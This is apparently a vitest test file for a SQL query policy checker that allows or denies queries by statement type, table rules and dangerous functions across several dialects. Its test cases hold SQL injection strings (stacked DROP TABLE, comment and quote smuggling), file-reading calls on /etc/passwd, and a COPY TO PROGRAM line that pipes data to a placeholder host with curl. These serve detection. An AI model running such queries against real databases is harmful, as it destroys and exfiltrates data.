import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import type { Finding } from "../../core/index.js";
import { globMatch } from "./glob.js";
import { sqlKind, type SqlOptions } from "./index.js";
import { lexSql } from "./lexer.js";
import { provablyShort } from "./parser.js";
import { loadPgParser } from "./pg-parser.js";

beforeAll(() => loadPgParser());

function codes(options: SqlOptions, query: unknown): string[] {
  const out: Finding[] = [];
  sqlKind.compile(sqlKind.options.parse(options))(query, "query", out);
  for (const finding of out) expect(finding.arg).toBe("query");
  return out.map((f) => f.code);
}

const readOnly: SqlOptions = {
  allow: ["select"],
  dialect: "postgresql",
  tables: { deny: ["secrets", "vault.*"] },
};

describe("sql kind: valid PostgreSQL the old grammar refused", () => {
  it.each([
    ["SQL-standard user functions", "SELECT current_user, session_user"],
    ["VALUES as a UNION arm", "SELECT id FROM t UNION ALL VALUES (0)"],
    [
      "VALUES as a recursive CTE's anchor",
      "WITH RECURSIVE r(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r",
    ],
    ["E-string with an alias", "SELECT E'a\\nb' AS s"],
    ["quoted alias with doubled quotes", 'SELECT 1 AS "a""b"'],
    ["U& string", "SELECT U&'d\\0061t' AS w"],
    ["TABLE shorthand", "TABLE t"],
  ])("allows %s", (_name, query) => {
    expect(codes(readOnly, query)).toEqual([]);
  });
});

describe("sql kind: writes inside reads, every dialect", () => {
  it.each([
    ["postgresql", "SELECT * FROM t WHERE id = 1 FOR UPDATE"],
    ["postgresql", "SELECT nextval('s')"],
    ["mysql", "SELECT id FROM t WHERE id = 1 FOR UPDATE"],
    ["mysql", "SELECT id FROM t LOCK IN SHARE MODE"],
    ["mysql", "SELECT nextval(s)"],
    ["snowflake", "SELECT s.nextval"],
    ["transactsql", "SELECT * FROM t WITH (UPDLOCK) WHERE id = 1"],
    ["transactsql", "SELECT * FROM t WITH (ROWLOCK, XLOCK) WHERE id = 1"],
  ] as const)("%s: %s needs `update`", (dialect, query) => {
    expect(codes({ allow: ["select"], dialect }, query)).toEqual(["sql.not_allowed"]);
    expect(codes({ allow: ["select", "update"], dialect }, query)).toEqual([]);
  });
});

it("reads, not writes: SQL Server NOLOCK, a column merely named like a sequence function", () => {
  expect(codes({ allow: ["select"], dialect: "transactsql" }, "SELECT * FROM t WITH (NOLOCK)")).toEqual([]);
  expect(codes({ allow: ["select"], dialect: "mysql" }, "SELECT nextval_at FROM t")).toEqual([]);
});

describe("sql kind: node-sql-parser dialects read what their servers read", () => {
  it("SQLite [bracket] identifiers, checked against the table rules", () => {
    const lite: SqlOptions = { allow: ["select"], dialect: "sqlite", tables: { deny: ["sqlite_master"] } };
    expect(codes(lite, "SELECT [order id] FROM [orders] WHERE [a]]b] = 1")).toEqual([]);
    expect(codes(lite, "SELECT * FROM [sqlite_master]")).toEqual(["sql.table_denied"]);
  });

  it("MySQL adjacent string literals are one literal", () => {
    expect(codes({ allow: ["select"], dialect: "mysql" }, "SELECT 'Hello' ' ' 'world' AS greeting")).toEqual(
      [],
    );
    expect(codes({ allow: ["select"], dialect: "mysql" }, "SELECT 'a' 'b'; DROP TABLE t")).toEqual([
      "sql.not_allowed",
    ]);
  });
});

describe("sql kind", () => {
  it.each([
    ["literal holding a statement", "SELECT 'DROP TABLE x; DELETE FROM y'"],
    ["line comment holding a statement", "SELECT 1 -- ; DROP TABLE x"],
    ["block comment holding a statement", "/* DROP TABLE x */ SELECT 1"],
    ["dollar quote holding a statement", "SELECT $tag$ '; DROP TABLE x; $tag$"],
    ["E-string with an escaped backslash", "SELECT E'a\\\\'"],
    ["doubled quotes", "SELECT 'it''s'"],
    ["CTE shadows a denied name", "WITH secrets AS (SELECT 1 AS a) SELECT a FROM secrets"],
    [
      "recursive CTE",
      "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
    ],
    ["function named like a dangerous one, but not it", "SELECT sleepy(1), my_pg_sleep_counter FROM t"],
    ["only comments", "-- nothing here\n/* at all */"],
    ["empty", ""],
    ["table whose name contains a denied one", "SELECT * FROM secrets_archive"],
    ["schema vault denied, table vault allowed", "SELECT * FROM public.vault"],
  ])("allows a look-alike: %s", (_name, query) => {
    expect(codes(readOnly, query)).toEqual([]);
  });

  it.each([
    ["stacked statement", "SELECT 1; DROP TABLE x", "sql.not_allowed"],
    ["stacked after a literal with a semicolon", "SELECT ';'; DELETE FROM x WHERE id = 1", "sql.not_allowed"],
    ["data-modifying CTE", "WITH d AS (DELETE FROM t WHERE id = 1) SELECT 1", "sql.not_allowed"],
    ["insert inside a CTE", "WITH i AS (INSERT INTO t VALUES (1)) SELECT 1", "sql.not_allowed"],
    [
      "CTE body reads the real denied table",
      "WITH secrets AS (SELECT * FROM secrets) SELECT 1",
      "sql.table_denied",
    ],
    [
      "CTE name does not leak into a later statement",
      "WITH secrets AS (SELECT 1) SELECT 1; SELECT * FROM secrets",
      "sql.table_denied",
    ],
    [
      "CTE name does not leak out of a subquery",
      "SELECT * FROM (WITH secrets AS (SELECT 1) SELECT 1) a, secrets",
      "sql.table_denied",
    ],
    [
      "denied table in a subquery of WHERE",
      "SELECT 1 FROM t WHERE a IN (SELECT a FROM secrets)",
      "sql.table_denied",
    ],
    ["denied table in a scalar subquery", "SELECT (SELECT max(a) FROM vault.keys)", "sql.table_denied"],
    ["denied table in a join", "SELECT * FROM t JOIN secrets s ON s.id = t.id", "sql.table_denied"],
    ["denied table via union", "SELECT a FROM t UNION SELECT b FROM secrets", "sql.table_denied"],
    ["denied table, different case and quoting", 'SELECT * FROM "SECRETS"', "sql.table_denied"],
    ["denied table, schema-qualified", "SELECT * FROM public.secrets", "sql.table_denied"],
    ["schema-qualified dangerous function", "SELECT pg_catalog.pg_sleep(1)", "sql.dangerous_function"],
    ["dangerous function in ORDER BY", "SELECT a FROM t ORDER BY pg_sleep(1)", "sql.dangerous_function"],
    ["dangerous function in a table position", "SELECT * FROM pg_ls_dir('/')", "sql.dangerous_function"],
    ["dangerous function, upper case", "SELECT PG_READ_FILE('/etc/passwd')", "sql.dangerous_function"],
    ["SELECT INTO a new table", "SELECT * INTO copy FROM t", "sql.not_allowed"],
    ["backslash before a quote", "SELECT 'a\\'; DROP TABLE t; --'", "sql.unparsable"],
    ["backslash before a double quote", 'SELECT "a\\"; DROP TABLE t; --"', "sql.unparsable"],
    ["nested comment", "SELECT 1 /* a /* b */ ; DROP TABLE t; */", "sql.unparsable"],
    ["unterminated literal", "SELECT 'abc", "sql.unparsable"],
    ["unterminated dollar quote", "SELECT $$abc", "sql.unparsable"],
    ["NUL character", "SELECT 1\u0000; DROP TABLE t", "sql.unparsable"],
    ["not SQL", "please drop the users table", "sql.unparsable"],
    ["not a string", { query: "SELECT 1" }, "sql.unparsable"],
    ["COPY to a server file", "COPY t TO '/tmp/t'", "sql.dangerous_function"],
    ["COPY TO PROGRAM", "COPY (SELECT * FROM t) TO PROGRAM 'curl -d @- x.example'", "sql.dangerous_function"],
    ["SELECT INTO TEMP", "SELECT * INTO TEMP t2 FROM t", "sql.not_allowed"],
    [
      "dblink with a column list",
      "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
      "sql.dangerous_function",
    ],
    ["Unicode-escaped denied table", 'SELECT * FROM U&"s\\0065crets"', "sql.table_denied"],
    ["FOR UPDATE in a read-only policy", "SELECT * FROM t FOR UPDATE", "sql.not_allowed"],
    ["FOR SHARE in a UNION arm", "(SELECT * FROM t FOR SHARE) UNION SELECT * FROM u", "sql.not_allowed"],
    ["nextval in a read-only policy", "SELECT nextval('s')", "sql.not_allowed"],
    ["DO block", "DO $$ BEGIN PERFORM 1; END $$", "sql.dangerous_function"],
    ["an unknown statement type", "VACUUM t", "sql.not_allowed"],
  ])("denies %s", (_name, query, code) => {
    expect(codes(readOnly, query)).toContain(code);
  });

  it("reads MySQL comments and quotes the way MySQL does", () => {
    const mysql: SqlOptions = { allow: ["select"], dialect: "mysql" };
    expect(codes(mysql, "SELECT 1 -- fine")).toEqual([]);
    expect(codes(mysql, "SELECT 'a\\\\', 2 # fine")).toEqual([]);
    expect(codes(mysql, "SELECT 1 --1; DROP TABLE t")).toEqual(["sql.unparsable"]);
    expect(codes(mysql, "SELECT 1 /*! ; DROP TABLE t */")).toEqual(["sql.unparsable"]);
    expect(codes(mysql, "SELECT 1 /*M! ; DROP TABLE t */")).toEqual(["sql.unparsable"]);
    expect(codes(mysql, "SELECT * FROM t INTO DUMPFILE '/tmp/x'")).toEqual(["sql.dangerous_function"]);
    expect(codes(mysql, "SELECT 1 INTO @x")).toEqual([]);
  });

  it("refuses `#` where the parser reads a comment and the server does not", () => {
    expect(codes({ dialect: "sqlite" }, "SELECT 1 # ; DROP TABLE t")).toEqual(["sql.unparsable"]);
  });

  it("checks statement categories, expanding ddl", () => {
    const ddl: SqlOptions = { allow: ["ddl"] };
    expect(codes(ddl, "CREATE TABLE t (a int)")).toEqual([]);
    expect(codes(ddl, "DROP TABLE t")).toEqual([]);
    expect(codes(ddl, "SELECT 1")).toEqual(["sql.not_allowed"]);
    expect(codes({}, "SELECT 1")).toEqual([]);
    expect(codes({}, "INSERT INTO t VALUES (1)")).toEqual(["sql.not_allowed"]);
  });

  it("requires a real WHERE on UPDATE and DELETE unless turned off", () => {
    const rows: SqlOptions = { allow: ["update", "delete"] };
    expect(codes(rows, "DELETE FROM t WHERE id = 1")).toEqual([]);
    expect(codes(rows, "DELETE FROM t")).toEqual(["sql.missing_where"]);
    expect(codes(rows, "DELETE FROM t WHERE true")).toEqual(["sql.missing_where"]);
    expect(codes(rows, "UPDATE t SET a = 1 WHERE 'a' = 'a'")).toEqual(["sql.missing_where"]);
    expect(codes(rows, "UPDATE t SET a = 1 WHERE id = 2 OR 2 > 1")).toEqual(["sql.missing_where"]);
    expect(codes(rows, "UPDATE t SET a = 1 WHERE id = 2 AND (b = 1 OR 1 = 1)")).toEqual([]);
    expect(codes({ ...rows, require_where: false }, "DELETE FROM t")).toEqual([]);
  });

  it("matches table globs on schema.table, with the dialect's default schema", () => {
    const only: SqlOptions = { tables: { allow: ["public.*", "reports.daily_*"] } };
    expect(codes(only, "SELECT * FROM users")).toEqual([]);
    expect(codes(only, "SELECT * FROM reports.daily_sales")).toEqual([]);
    expect(codes(only, "SELECT * FROM reports.monthly")).toEqual(["sql.table_not_allowed"]);
    expect(codes({ ...only, default_schema: "app" }, "SELECT * FROM users")).toEqual([
      "sql.table_not_allowed",
    ]);
  });

  it("limits the number of statements", () => {
    expect(codes({ max_statements: 1 }, "SELECT 1; SELECT 2")).toEqual(["sql.too_many_statements"]);
    expect(codes({ max_statements: 2 }, "SELECT 1; SELECT 2")).toEqual([]);
  });

  it("lets the policy adjust the dangerous-function list", () => {
    expect(codes({ functions: { allow: ["pg_sleep"] } }, "SELECT pg_sleep(0)")).toEqual([]);
    expect(codes({ functions: { deny: ["md5"] } }, "SELECT md5('x')")).toEqual(["sql.dangerous_function"]);
  });

  it("caps the input size and time-boxes the parser", () => {
    expect(codes({ max_length: 50 }, `SELECT '${"x".repeat(60)}'`)).toEqual(["sql.unparsable"]);
    expect(codes({ timeout_ms: 20 }, `SELECT ${"(".repeat(25)}a`)).toEqual(["sql.unparsable"]);
  });

  it.each([
    ["20 unclosed parentheses (17 s unguarded)", `SELECT ${"(".repeat(20)}a`],
    ["an error inside 14 balanced parentheses", `SELECT ${"(".repeat(14)}a x y${")".repeat(14)}`],
    ["an IN list opened 14 deep", `SELECT * FROM t WHERE a IN ${"(".repeat(14)}1 x`],
    ["an error inside 4 parentheses after 3 KB", `SELECT ${"((((".repeat(1)}${"a+".repeat(1500)}a x y))))`],
  ])("decides a pathological query within its time budget: %s", (_name, query) => {
    // The vitest timeout bounds the time: unguarded, each of these parses for seconds.
    const lexed = lexSql(query, "postgresql");
    expect(provablyShort(lexed.maxDepth, lexed.code.length, 100)).toBe(false);
    expect(codes({ timeout_ms: 100 }, query)).toEqual(["sql.unparsable"]);
  });

  it("parses without the timeout only what is shallow and short", () => {
    expect(
      provablyShort(
        lexSql("SELECT count(*) FROM t WHERE a IN (SELECT b FROM u)", "postgresql").maxDepth,
        60,
        1000,
      ),
    ).toBe(true);
    expect(lexSql("SELECT '((((' -- ((((\n, a[1]", "postgresql").maxDepth).toBe(1);
    expect(provablyShort(3, 60, 1000)).toBe(false);
    expect(provablyShort(2, 513, 1000)).toBe(false);
    expect(provablyShort(2, 60, 50)).toBe(false);
  });

  it("answers a repeated query from its cache, with the caller's argument name", () => {
    const check = sqlKind.compile(sqlKind.options.parse(readOnly));
    const query = "SELECT * FROM secrets";
    const first: Finding[] = [];
    const second: Finding[] = [];
    check(query, "a", first);
    check(query, "b", second);
    expect(first).toEqual([{ code: "sql.table_denied", message: "table `secrets` is denied", arg: "a" }]);
    expect(second).toEqual([{ ...first[0], arg: "b" }]);
    second[0]!.message = "changed";
    for (let i = 0; i < 300; i++) check(`SELECT ${i}`, "c", []);
    const third: Finding[] = [];
    check(query, "d", third);
    expect(third).toEqual([{ ...first[0], arg: "d" }]);
  });

  it("analyzes a 10 KB query", () => {
    const list = Array.from({ length: 1500 }, (_, i) => `'n${i}'`).join(",");
    const query = `SELECT id FROM users WHERE name IN (${list}) AND id IN (SELECT id FROM secrets)`;
    expect(query.length).toBeGreaterThan(10_000);
    expect(codes(readOnly, query)).toEqual(["sql.table_denied"]);
  });

  it("rejects bad options at load", () => {
    expect(sqlKind.options.safeParse({ allow: ["selekt"] }).success).toBe(false);
    expect(sqlKind.options.safeParse({ dialect: "oracle" }).success).toBe(false);
    expect(sqlKind.options.safeParse({ tables: { allow: ["a"], extra: 1 } }).success).toBe(false);
  });

  it("never throws, whatever the input", () => {
    const check = sqlKind.compile({ timeout_ms: 50 });
    const sqlish = fc.stringMatching(/^[a-zA-Z0-9 ();,'"`$*=<>.\\/#\-\n]{0,60}$/);
    fc.assert(
      fc.property(fc.oneof(sqlish, fc.string(), fc.anything()), (value) => {
        const out: Finding[] = [];
        check(value, "q", out);
        for (const finding of out) expect(finding.code).toMatch(/^sql\.[a-z_]+$/);
      }),
      { numRuns: 150 },
    );
  });
});

describe("sql kind: PostgreSQL the grammar lacks, read the way the server reads it", () => {
  const catalogDenied: SqlOptions = {
    allow: ["select"],
    dialect: "postgresql",
    tables: { deny: ["pg_catalog.*", "information_schema.*", "secrets.*"] },
  };
  const writer: SqlOptions = {
    allow: ["select", "insert", "update", "delete"],
    dialect: "postgresql",
    tables: { allow: ["public.*"] },
  };

  it.each([
    [catalogDenied, "E-string with an escaped quote", "SELECT * FROM t WHERE a = E'it\\'s; DROP TABLE x'"],
    [catalogDenied, "lower-case e-string", "SELECT e'a\\'b'"],
    [catalogDenied, "cast bind parameters", "SELECT * FROM o WHERE id = ANY($1::int[]) AND s = $2"],
    [
      catalogDenied,
      "bind parameters in expressions",
      "SELECT * FROM o WHERE ts > now() - $1::interval AND d @> $2::jsonb",
    ],
    [
      catalogDenied,
      "GROUPING SETS with the empty set",
      "SELECT r, sum(x) FROM s GROUP BY GROUPING SETS ((r), (p), ())",
    ],
    [
      catalogDenied,
      "grouping sets across lines, nested empty sets",
      "SELECT r FROM s GROUP BY grouping\n sets ((r, p), ( ))",
    ],
    [
      catalogDenied,
      "a CTE named like a catalog view",
      "WITH pg_roles AS (SELECT 1 AS a) SELECT a FROM pg_roles",
    ],
    [catalogDenied, "a user table that is not in pg_catalog", "SELECT * FROM roles"],
    [
      writer,
      "WITH before DELETE",
      "WITH stale AS (SELECT id FROM public.jobs WHERE f < now()) DELETE FROM public.jobs WHERE id IN (SELECT id FROM stale)",
    ],
    [
      writer,
      "WITH before INSERT",
      "WITH n AS (SELECT 1 AS id) INSERT INTO public.jobs (id) SELECT id FROM n",
    ],
    [
      writer,
      "two WITH statements",
      "WITH a AS (SELECT 1) DELETE FROM public.t WHERE id IN (SELECT * FROM a); WITH b AS (SELECT 2) DELETE FROM public.u WHERE id IN (SELECT * FROM b)",
    ],
    [writer, "a bind parameter keeps WHERE non-constant", "DELETE FROM public.jobs WHERE id = $1::int"],
  ])("allows %#: %s", (options, _name, query) => {
    expect(codes(options, query)).toEqual([]);
  });

  it.each([
    [catalogDenied, "unqualified catalog view", "SELECT * FROM pg_roles", "sql.table_denied"],
    [catalogDenied, "unqualified activity view", "SELECT query FROM pg_stat_activity", "sql.table_denied"],
    [catalogDenied, "unqualified catalog table, quoted", 'SELECT * FROM "pg_authid"', "sql.table_denied"],
    [
      catalogDenied,
      "catalog view in a subquery",
      "SELECT * FROM t WHERE u IN (SELECT usename FROM pg_user)",
      "sql.table_denied",
    ],
    [writer, "catalog view outside the allowed tables", "SELECT * FROM pg_class", "sql.table_not_allowed"],
    [catalogDenied, "E-string closing early", "SELECT E'\\\\' ; DROP TABLE x --'", "sql.not_allowed"],
    [
      catalogDenied,
      "E-string hiding nothing from the table check",
      "SELECT E'\\\\' FROM secrets.k --'",
      "sql.table_denied",
    ],
    [
      catalogDenied,
      "plain string with a backslash stays ambiguous",
      "SELECT 'a\\'; DROP TABLE t; --'",
      "sql.unparsable",
    ],
    [catalogDenied, "identifier ending in e before a string", "SELECT name'a\\'b'", "sql.unparsable"],
    [
      catalogDenied,
      "denied table under GROUPING SETS",
      "SELECT a FROM secrets.k GROUP BY GROUPING SETS ((a), ())",
      "sql.table_denied",
    ],
    [
      catalogDenied,
      "WITH before DELETE where only SELECT is allowed",
      "WITH a AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM a)",
      "sql.not_allowed",
    ],
    [
      writer,
      "WITH before DELETE without WHERE",
      "WITH a AS (SELECT 1) DELETE FROM public.jobs",
      "sql.missing_where",
    ],
    [
      writer,
      "WITH reading a table outside the allowed ones",
      "WITH a AS (SELECT * FROM secrets.k) INSERT INTO public.t SELECT * FROM a",
      "sql.table_not_allowed",
    ],
    [
      writer,
      "WITH before DELETE of a table outside the allowed ones",
      "WITH a AS (SELECT 1) DELETE FROM auth.users WHERE id IN (SELECT * FROM a)",
      "sql.table_not_allowed",
    ],
    [
      catalogDenied,
      "a CTE name is not visible in its own body",
      "WITH pg_roles AS (SELECT * FROM pg_roles) SELECT * FROM pg_roles",
      "sql.table_denied",
    ],
    [
      writer,
      "DML spliced after a UNION",
      "WITH a AS (SELECT 1) SELECT 1 UNION DELETE FROM public.t WHERE x = 1",
      "sql.unparsable",
    ],
    [
      writer,
      "DML inside parentheses",
      "WITH a AS (SELECT 1) SELECT * FROM (DELETE FROM public.t WHERE x = 1) d",
      "sql.unparsable",
    ],
  ])("denies %#: %s", (options, _name, query, code) => {
    expect(codes(options, query)).toContain(code);
  });
});

describe("lexSql", () => {
  it("blanks comments in place and counts the server's statements", () => {
    const lexed = lexSql("SELECT 1; -- x\nSELECT '--;' /* ; */;", "postgresql");
    expect(lexed.error).toBeUndefined();
    expect(lexed.statements).toBe(2);
    expect(lexed.code).toBe("SELECT 1;     \nSELECT '--;'        ;");
  });

  it("rewrites cast parameters and grouping sets for the parser, outside strings and comments", () => {
    const lexed = lexSql(
      "SELECT '$1::x', $1::int, a$1 FROM t GROUP BY GROUPING SETS ((a), ()) -- ()",
      "postgresql",
    );
    expect(lexed.code).toBe("SELECT '$1::x', _1::int, a$1 FROM t GROUP BY GROUPING_SETS ((a), (0))      ");
    expect(lexSql("SELECT $1::int", "mysql").code).toBe("SELECT $1::int");
  });

  it("keeps dollar-quoted text whole", () => {
    expect(lexSql("SELECT $a$ ; -- $a$; SELECT 2", "postgresql").statements).toBe(2);
    expect(lexSql("SELECT $1, a$b$c FROM t", "postgresql").error).toBeUndefined();
  });
});

describe("globMatch", () => {
  it.each([
    ["public.*", "public.users", true],
    ["public.*", "other.users", false],
    ["*.users", "a.b.users", true],
    ["daily_?", "daily_1", true],
    ["daily_?", "daily_10", false],
    ["a*b*c", `a${"x".repeat(5000)}`, false],
  ])("%s ~ %s is %s", (pattern, name, expected) => {
    expect(globMatch(pattern, name)).toBe(expected);
  });
});
